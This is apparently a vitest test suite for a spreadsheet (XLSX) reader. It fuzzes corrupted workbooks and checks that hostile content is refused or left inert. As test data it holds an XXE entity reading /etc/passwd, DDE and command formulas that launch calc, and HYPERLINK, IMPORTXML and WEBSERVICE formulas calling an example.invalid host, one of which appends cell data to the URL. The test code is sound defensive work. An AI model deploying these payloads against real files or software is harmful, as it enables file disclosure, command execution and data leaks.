import { describe, expect, it, vi } from 'vitest';
import { type ReadSheet, readBytes, readSheet, refusalCode } from './fixtures/read-fixture.ts';
import { buildChanged, buildXlsx, type XlsxFixture, xlsxParts } from './fixtures/xlsx-fixture.ts';
import { buildZip } from './fixtures/zip-fixture.ts';
import { REFUSAL_CODES } from './refusal.ts';

// Bounds a hang, generously: the machine may be busy.
vi.setConfig({ testTimeout: 120_000 });

const LEDGER: XlsxFixture = {
  strings: '<si><t>户主</t></si><si><r><t>张</t></r><r><t>三</t></r></si>',
  formats: ['yyyy"年"m"月"', '0.00%'],
  beforeRows: '<cols><col min="2" max="3" hidden="1"/></cols>',
  rows:
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1"><v>43831</v></c><c r="C1" t="inlineStr"><is><t>a&amp;b&#x4e2d;</t></is></c></row>' +
    '<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="b"><v>1</v></c><c r="C2" t="e"><v>#N/A</v></c><c r="D2" t="str"><f>A1&amp;"x"</f><v>户主x</v></c></row>' +
    '<row r="5" hidden="1"><c r="D5" s="2"><v>0.5</v></c></row>',
  afterRows: '<mergeCells count="1"><mergeCell ref="A1:B2"/></mergeCells>',
};

/** Numbers that look like chance and are the same in every run (mulberry32). */
function dice(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d_2b_79_f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const bits = [
  '<',
  '>',
  '/>',
  '&',
  '&lt;',
  '&#0;',
  '&#xFFFFFF;',
  '"',
  '<!--',
  ']]>',
  '<![CDATA[',
  '<?',
  '\u0000',
  '\uFFFE',
  '9999999999',
  '-1',
  '1e400',
  '<row>',
  '</c>',
  '<f>',
  ' r="ZZZZ9"',
  ' xmlns=""',
];

/** One or several injuries: a byte changed, a stretch cut out or said twice, something put in, the end cut off. */
function injured(data: Buffer, roll: (below: number) => number): Buffer {
  let hurt = data;
  for (let times = 1 + roll(3); times > 0 && hurt.length > 1; times -= 1) {
    const at = roll(hurt.length);
    const until = Math.min(hurt.length, at + 1 + roll(40));
    const [before, after] = [hurt.subarray(0, at), hurt.subarray(at)];
    switch (roll(5)) {
      case 0:
        hurt = Buffer.from(hurt);
        hurt[at] = roll(256);
        break;
      case 1:
        hurt = Buffer.concat([before, hurt.subarray(until)]);
        break;
      case 2:
        hurt = Buffer.concat([hurt.subarray(0, until), after]);
        break;
      case 3:
        hurt = Buffer.concat([before, Buffer.from(bits[roll(bits.length)] ?? ''), after]);
        break;
      default:
        hurt = roll(4) === 0 ? before : hurt;
    }
  }
  return hurt;
}

const whole = buildXlsx(LEDGER);
const parts = xlsxParts(LEDGER);

/** Every second one is hurt as a file, the others within a part whose sizes and sums are then honest. */
function mutation(seed: number): Buffer {
  const roll = dice(seed);
  if (seed % 2 === 0) return injured(whole, roll);
  const which = roll(parts.length);
  return buildZip(parts.map((part, at) => (at === which ? { ...part, data: injured(Buffer.from(String(part.data)), roll) } : part)));
}

describe('two thousand injured workbooks', () => {
  it('are each refused with a known sentence or read, within bounded memory', async () => {
    const codes: ReadonlySet<string> = new Set(REFUSAL_CODES);
    const told = { read: 0, refused: 0 };
    const odd: string[] = [];
    let highest = 0;
    const before = process.memoryUsage().heapUsed;
    for (let seed = 0; seed < 2_000; seed += 1) {
      const result = await readBytes(mutation(seed));
      const refused = 'code' in result;
      told[refused ? 'refused' : 'read'] += 1;
      if (refused ? !codes.has(result.code) : !result.sheets.every(wellFormed)) odd.push(`seed ${seed}`);
      if (seed % 100 === 0) highest = Math.max(highest, process.memoryUsage().heapUsed - before);
    }
    expect(odd).toEqual([]);
    expect(told.read).toBeGreaterThan(200);
    expect(told.refused).toBeGreaterThan(500);
    expect(highest).toBeLessThan(256 * 1_024 * 1_024);
  });
});

/** A reading is right by its form: rows rise, every cell has its text. */
const wellFormed = ({ rows }: ReadSheet): boolean =>
  rows.every((row, at) => row.index > (rows[at - 1]?.index ?? 0) && row.cells.every((cell) => typeof cell.text === 'string'));

describe('broken XML', () => {
  const broken: [string, string][] = [
    ['an element never closed', '<a><b></a>'],
    ['a closing that was never opened', '<a></a></b>'],
    ['two roots', '<a/><b/>'],
    ['an attribute without quotes', '<a b=c/>'],
    ['an attribute twice', '<a b="1" b="2"/>'],
    ['an attribute that holds an opening', '<a b="<"/>'],
    ['a comment without end', '<a><!-- </a>'],
    ['CDATA without end', '<a><![CDATA[ </a>'],
    ['an instruction without end', '<a><?x </a>'],
    ['a reference without end', '<a>&amp</a>'],
    ['a character that XML does not know', '<a>&#0;</a>'],
    ['a number beyond all characters', '<a>&#x110000;</a>'],
    ['a name that is none', '<a><1/></a>'],
    ['text behind the end', '<a/>text'],
    ['nothing', ''],
    ['bytes that are no UTF-8', '\u0000\u0001'],
  ];
  const files = ['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'];

  it.each(broken)('%s: refused or left out in every part, never a crash', async (_name, xml) => {
    for (const file of files) {
      const told = await refusalCode(buildChanged(LEDGER, file, (part) => ({ ...part, data: xml })));
      const allowed: string[] = file === 'xl/workbook.xml' ? [...REFUSAL_CODES] : [...REFUSAL_CODES, 'read'];
      expect(allowed, file).toContain(told);
    }
  });

  it('is refused in every part where a document names entities or another file', async () => {
    for (const file of files) {
      const doctype = (part: { name: string; data: string | Buffer }) => ({
        ...part,
        data: String(part.data).replace('?>', '?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      });
      expect(await refusalCode(buildChanged(LEDGER, file, doctype)), file).toBe('xml-entities');
    }
  });
});

describe('what a workbook would like to have done', () => {
  const formulas = [
    "cmd|'/c calc'!A0",
    'DDE("cmd","/c calc","x")',
    'HYPERLINK("http://example.invalid/?"&amp;A1,"点这里")',
    'IMPORTXML("http://example.invalid/","//a")',
    'WEBSERVICE("http://example.invalid/")',
    'EXEC("calc")',
    'INDIRECT("[1]Sheet1!A1")',
  ];

  it.each(formulas)('%s is never done: the last value stays, and that it was a formula is told', async (formula) => {
    const sheet = await readSheet(
      buildXlsx({ rows: `<row r="1"><c r="A1" t="str"><f>${formula}</f><v>旧值</v></c><c r="B1"><f>${formula}</f></c></row>` }),
    );
    expect(sheet.rows[0]?.cells).toMatchObject([
      { value: '旧值', formula: true },
      { value: null, formula: true },
    ]);
  });

  it('shared and array formulas give the values that were kept', async () => {
    const rows =
      '<row r="1"><c r="A1"><f t="shared" ref="A1:A3" si="0">B1*2</f><v>4</v></c></row><row r="2"><c r="A2"><f t="shared" si="0"/><v>6</v></c></row><row r="3"><c r="A3"><f t="array" ref="A3:XFD1048576">ROW()</f><v>3</v></c></row>';
    const sheet = await readSheet(buildXlsx({ rows }));
    expect(sheet.rows.map((row) => row.cells[0]?.value)).toEqual([4, 6, 3]);
  });

  it('links, macros, connections and comments beside the cells are left alone', async () => {
    const afterRows =
      '<hyperlinks><hyperlink ref="A1" r:id="rId9" location="Sheet1!A1"/></hyperlinks><oleObjects><oleObject progId="Package" shapeId="1" r:id="rId8"/></oleObjects><legacyDrawing r:id="rId7"/>';
    const more = [
      'xl/connections.xml',
      'xl/vbaProject.bin',
      'xl/embeddings/oleObject1.bin',
      'xl/comments1.xml',
      'xl/queryTables/queryTable1.xml',
    ].map((name) => ({ name, data: '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>' }));
    const sheet = await readSheet(
      buildXlsx({ rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>户主</t></is></c></row>', afterRows, more }),
    );
    expect(sheet.rows.map((row) => row.cells.map((cell) => cell.value))).toEqual([['户主']]);
  });

  it('a text that begins like a formula stays a text', async () => {
    const text = '=cmd|&apos;/c calc&apos;!A0';
    const sheet = await readSheet(buildXlsx({ rows: `<row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row>` }));
    expect(sheet.rows[0]?.cells[0]).toMatchObject({ value: "=cmd|'/c calc'!A0" });
    expect(sheet.rows[0]?.cells[0]?.formula).not.toBe(true);
  });
});
